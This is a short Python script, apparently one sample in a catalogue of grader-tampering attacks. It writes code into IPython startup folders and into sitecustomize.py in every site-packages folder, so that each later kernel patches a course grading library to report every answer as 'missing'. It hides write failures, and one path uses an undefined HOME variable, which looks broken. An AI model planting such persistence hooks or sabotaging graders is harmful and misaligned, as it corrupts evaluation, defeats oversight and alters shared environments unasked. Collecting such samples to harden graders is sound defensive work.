"""A file is left that every later kernel runs when it starts.

class: files
"""

import os
import pathlib
import site

code = "import course_lib.grading.answering as a\na._Answers._called = lambda *g: {'kind': 'missing'}\n"
homes = {pathlib.Path.home(), pathlib.Path(HOME), pathlib.Path("/root")}
places = [home / ".ipython/profile_default/startup/00.py" for home in homes]
places += [
    pathlib.Path(folder) / "sitecustomize.py" for folder in [*site.getsitepackages(), site.getusersitepackages()]
]
places += [pathlib.Path(os.environ.get("IPYTHONDIR", "/x")) / "profile_default/startup/00.py"]
for place in places:
    try:
        place.parent.mkdir(parents=True, exist_ok=True)
        place.write_text(code)
    except OSError:
        pass
